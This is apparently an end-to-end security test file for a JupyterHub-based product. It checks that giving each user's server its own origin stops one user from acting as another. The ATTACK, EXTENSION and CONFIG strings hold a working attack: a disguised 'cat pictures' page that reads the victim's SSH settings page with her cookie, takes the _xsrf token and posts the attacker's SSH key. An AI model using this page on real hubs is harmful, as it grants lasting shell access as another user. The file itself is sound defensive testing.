"""One origin per user, the shipped default: a page one user's server serves cannot act for another user.

A user controls their own server completely: a Jupyter config file and an extension in their home add a page of
their choosing, served without any login. mallory uses that to serve a page that, opened by alice, reads alice's
``/hub/ssh`` (and its ``_xsrf`` value) with alice's cookie and posts mallory's key: a lasting shell as alice. With
the shipped default (each user's server on its own origin, ``mallory.localhost``) the page gets nothing and alice's
keys stay hers; on a hub that opted out of it (the control, ``DEVDOCK_SINGLE_ORIGIN=1``) the same page succeeds.
"""

from __future__ import annotations

import json
import time

import pytest

from tests.e2e.desktop import SHOTS
from tests.harness import Hub, keygen, put_files

#: Names of this module's own (hubs share the run's container-name prefix).
ALICE, SAM = "alice-origin", "sam-origin"
MALLORY = {"default": "mallory-origin", "single": "mallory-control"}

#: mallory's own server extension: a page of hers, served without a login, next to her JupyterLab.
EXTENSION = b'''
import os
from jupyter_server.utils import url_path_join
from tornado import web

PAGE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attack.html")


class AttackPage(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/html; charset=utf-8")
        with open(PAGE) as f:
            self.finish(f.read())


def _jupyter_server_extension_points():
    return [{"module": "mallory_attack"}]


def _load_jupyter_server_extension(app):
    app.web_app.add_handlers(".*$", [(url_path_join(app.base_url, "devdock-attack"), AttackPage)])
'''

CONFIG = b'''
import os, sys
sys.path.insert(0, os.path.expanduser("~/.jupyter"))
c.ServerApp.jpserver_extensions.update({"mallory_attack": True})
'''

#: What the page does in the victim's browser: read the hub's SSH page with the victim's cookie, take its _xsrf
#: value and post mallory's key; both as the hub's absolute URL and as a path on the page's own origin.
ATTACK = """<!doctype html><title>cat pictures</title>
<pre id="result" style="white-space: pre-wrap">running</pre><script>
(async () => {
  const out = {};
  for (const [name, base] of [["hub", HUB], ["same-origin", ""]]) {
    const seen = out[name] = {};
    try {
      const page = await fetch(base + "/hub/ssh", {credentials: "include"});
      const html = await page.text();
      const xsrf = html.match(/name="_xsrf" value="([^"]+)"/);
      const sshPage = html.includes('id="ssh-keys"');  // the signed-in user's own SSH page, not a login form
      Object.assign(seen, {status: page.status, url: page.url, sshPage, xsrf: Boolean(xsrf), read: html.length});
      if (xsrf) {
        const body = new URLSearchParams({keys: KEY, _xsrf: xsrf[1]});
        const post = await fetch(base + "/hub/ssh", {method: "POST", body, credentials: "include"});
        seen.posted = post.status;
      }
    } catch (e) { seen.error = String(e); }
  }
  document.getElementById("result").textContent = JSON.stringify(out);
})();
</script>"""


def _plant_attack_page(hub: Hub, mallory: str, hub_origin: str, key_line: str) -> None:
    """mallory, in her own running server, writes the extension and its config into her home, then restarts."""
    container = hub.container(mallory)
    made = container.exec_run(["mkdir", "-p", f"/home/{mallory}/.jupyter"], user="1000")
    assert made.exit_code == 0, made.output
    page = ATTACK.replace("HUB", json.dumps(hub_origin), 1).replace("KEY", json.dumps(key_line), 1)
    put_files(
        container,
        f"/home/{mallory}/.jupyter",
        {"jupyter_server_config.py": CONFIG, "mallory_attack.py": EXTENSION, "attack.html": page.encode()},
        owner=1000,
    )
    hub.stop_server(mallory)
    hub.spawn(mallory)


def _alice_opens_the_link(browser, hub_origin: str, link: str, hub: Hub, shot: str) -> dict:
    context = browser.new_context(viewport={"width": 1200, "height": 800})
    try:
        page = context.new_page()
        page.goto(f"{hub_origin}/hub/login")
        page.fill("input#username_input", ALICE)
        page.fill("input#password_input", hub.password)
        page.click("#login_submit")
        page.wait_for_url(f"{hub_origin}/hub/**")
        page.goto(f"{hub_origin}/hub/ssh")
        assert page.locator("#ssh-keys").count() == 1  # signed in: her own SSH page
        page.goto(link)
        result = page.locator("#result")
        deadline = time.monotonic() + 60
        while result.inner_text() == "running" and time.monotonic() < deadline:
            time.sleep(0.2)
        page.screenshot(path=SHOTS / f"{shot}.png")
        return json.loads(result.inner_text())
    finally:
        context.close()


def _alice_keys(hub: Hub) -> str:
    session = hub.browser_session(ALICE)
    return session.get(f"{hub.url}/hub/ssh", timeout=30).text


@pytest.fixture(scope="module")
def mallory_key(tmp_path_factory):
    return keygen(tmp_path_factory.mktemp("mallory-key"), "mallory")[1]


def test_origin_per_user_keeps_a_users_page_from_acting_for_another_user(make_hub, browser, mallory_key):
    key_body = mallory_key.split()[1]

    # The shipped default: nothing says where users' servers live, so each gets its own origin (localhost here).
    default = make_hub("origin-default", start=False)
    default.env.pop("DEVDOCK_SINGLE_ORIGIN")
    # The control: the same hub that opted out of it (every server on the hub's origin).
    single = make_hub("origin-single", start=False)
    try:
        for name, hub in (("default", default), ("single", single)):
            hub.start()
            hub.create_user(ALICE)
            hub.spawn(MALLORY[name])

        hub_origin = f"http://localhost:{default.port}"
        _plant_attack_page(default, MALLORY["default"], hub_origin, mallory_key)
        mallory = MALLORY["default"]
        link = f"http://{mallory}.localhost:{default.port}/user/{mallory}/devdock-attack"
        seen = _alice_opens_the_link(browser, hub_origin, link, default, "origin-attack-refused")
        # The page ran (it reports), but got no SSH page of alice's: the hub's absolute URL is another origin (the
        # browser gives the page no answer), and on mallory's own origin the hub has no cookie of alice's (host-only
        # cookies), so it answers with a login form; what it posts with that form's _xsrf is not alice's.
        assert set(seen) == {"hub", "same-origin"}, seen
        assert not any(s.get("sshPage") for s in seen.values()), seen
        assert "error" in seen["hub"], seen
        assert key_body not in _alice_keys(default)
        # Her own origin still works for alice: the hub's page for her, the admin page says nothing in red.
        assert (
            "devdock-single-origin"
            not in default.browser_session("admin").get(f"{default.url}/hub/devdock/admin", timeout=30).text
        )

        single_origin = single.url
        _plant_attack_page(single, MALLORY["single"], single_origin, mallory_key)
        seen = _alice_opens_the_link(
            browser,
            single_origin,
            f"{single_origin}/user/{MALLORY['single']}/devdock-attack",
            single,
            "origin-attack-control",
        )
        # The control: on one origin the same page reads alice's SSH page and saves mallory's key as hers.
        assert seen["same-origin"].get("sshPage") and seen["same-origin"].get("posted") == 200, seen
        assert key_body in _alice_keys(single)
        # ...which is why such a hub says so in red on the admin page.
        admin_page = single.browser_session("admin").get(f"{single.url}/hub/devdock/admin", timeout=30).text
        assert 'id="devdock-single-origin"' in admin_page
    finally:
        for hub in (default, single):
            hub.stop()


def test_a_hub_on_one_origin_without_the_opt_out_starts_no_server(make_hub):
    """A site config that leaves subdomain_host unset and did not opt out: the spawn is refused with the sentence
    that names both lines, and nothing is created; the same hub with the opt-out starts the server (control)."""
    refusing = make_hub("origin-refused", start=False, extra_config="c.JupyterHub.subdomain_host = ''")
    refusing.env.pop("DEVDOCK_SINGLE_ORIGIN")
    refusing.start()
    try:
        refusing.create_user(SAM)
        r = refusing.api("POST", f"/users/{SAM}/server", json={})
        assert r.status_code == 503, r.text
        message = r.json()["message"]
        assert "c.JupyterHub.subdomain_host" in message and "allow_single_origin = True" in message, message
        assert refusing.container(SAM) is None
    finally:
        refusing.stop()
    allowed = make_hub("origin-opted-out", start=False)  # DEVDOCK_SINGLE_ORIGIN=1
    allowed.start()
    try:
        allowed.spawn(SAM)
        assert allowed.container(SAM).status == "running"
    finally:
        allowed.stop()
